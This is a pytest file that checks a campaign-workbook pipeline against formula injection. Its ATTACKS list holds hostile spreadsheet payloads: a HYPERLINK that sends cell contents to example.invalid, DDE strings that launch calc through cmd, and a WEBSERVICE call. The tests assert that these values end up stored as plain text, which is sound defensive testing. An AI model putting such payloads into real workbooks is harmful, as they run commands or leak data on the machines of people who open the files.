"""Issue 20: the hostile probe's second pass, one attack per test.

Every test here is one attack that must be held; `make hostile` (or
`.venv/bin/python -m pytest -m hostile`) runs them with the older attacks of
tests/test_hardening.py and tests/test_make_hardening.py, and pytest's
`N passed` is the count of attacks held. Test names start with the issue's item:

1. inject_*    formulas from data in any workbook the project writes
2. guard_*     formulas without cached values in rows without `r`, every printed number
3. host_*      DNS rebinding, Origin with scheme, forwarded headers
4. long_*      32,767 characters per cell while streaming
5. watch_*     the watcher stops on SIGTERM/SIGINT
6. zipname_*   Content-Disposition for campaign folders with diacritics
7. password_*  password guesses slowed per client
9. photos_*    a symlinked anh/ folder
10. dates_*    every date range-checked; `{_{` printed as written
"""
from __future__ import annotations

import re
import shutil
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from pipeline.errors import ValidationError
from pipeline.load import WORKBOOK, load_campaign
from pipeline.sanity import OWN_FORMULA, literal
from pipeline.validate import validate

from .conftest import ROOT, SAMPLE

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
           "=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid/")',
           "+1+cmd|' /C calc'!A0", "@SUM(1+1)"]


def problems_of(folder: Path) -> list[str]:
    with pytest.raises(ValidationError) as caught:
        validate(load_campaign(folder))
    return [str(p) for p in caught.value.problems]


# =========================================================================== 1. inject

def _hostile_campaign(target: Path, attack: str) -> Path:
    """The sample with the cluster's and every unit's name replaced by `attack` (+ a code)."""
    shutil.copytree(SAMPLE, target)
    path = target / WORKBOOK
    book = openpyxl.load_workbook(path)
    literal(book["Chung"]["B2"], attack)
    units = book["Đơn vị"]
    for row in range(2, units.max_row + 1):
        literal(units.cell(row, 2), f'{attack}&"{row}"')
    book.save(path)
    return target


def live_formulas(path: Path) -> list[str]:
    """Every formula a workbook holds that is not one of the program's own sums."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            for formula in etree.fromstring(archive.read(name)).iter(f"{MAIN}f"):
                if not re.fullmatch(OWN_FORMULA, (formula.text or "").strip()):
                    found.append(f"{path.name} {name}: ={formula.text}")
    return found


def recalculates_on_open(path: Path) -> bool:
    with zipfile.ZipFile(path) as archive:
        calc = etree.fromstring(archive.read("xl/workbook.xml")).find(f"{MAIN}calcPr")
    return calc is not None and calc.get("fullCalcOnLoad") in ("1", "true")


@pytest.mark.parametrize("attack", ATTACKS[:3])
def test_inject_summary_workbook_holds_names_as_text_and_no_recalculation(tmp_path, attack):
    from pipeline.summary import WORKBOOK as SUMMARY, build_summary

    _hostile_campaign(tmp_path / "inputs" / SAMPLE.name, attack)
    outcome = build_summary(tmp_path / "inputs", tmp_path / "outputs", 2020, date(2020, 12, 21))
    assert outcome.included == [SAMPLE.name]
    path = outcome.folder / SUMMARY
    assert live_formulas(path) == []
    assert not recalculates_on_open(path)
    sheet = openpyxl.load_workbook(path)["Đơn vị"]
    assert sheet["A2"].value == attack and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["E2"].value.startswith(attack)


@pytest.mark.slow
def test_inject_every_workbook_the_project_writes_has_no_formula_from_data(tmp_path, monkeypatch):
    """Forms, the blank workbook and the summary, written from hostile data, then scanned."""
    from pipeline import blank
    from pipeline.forms.writer import write_forms
    from pipeline.model import Grade
    from pipeline.summary import build_summary
    from pipeline.validate import validate_for_forms

    attack = ATTACKS[0]
    folder = _hostile_campaign(tmp_path / "inputs" / SAMPLE.name, attack)
    out = tmp_path / "outputs"
    write_forms(validate_for_forms(load_campaign(folder)), out / "forms")
    monkeypatch.setattr(blank, "DEFAULT_GRADES", (Grade("A", 85, attack), Grade("B", 70, "@x")))
    blank.write_blank_workbook(out / "du-lieu-trong.xlsx")
    build_summary(tmp_path / "inputs", out, 2020, date(2020, 12, 21))
    written = sorted(out.rglob("*.xlsx"))
    assert len(written) >= 3 + 1  # at least one form, the blank workbook, the summary
    assert [f for path in written for f in live_formulas(path)] == []
    for path in written:
        with zipfile.ZipFile(path) as archive:
            text = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                           if n.startswith("xl/worksheets/"))
        if "<f>" not in text:
            assert not recalculates_on_open(path), path.name
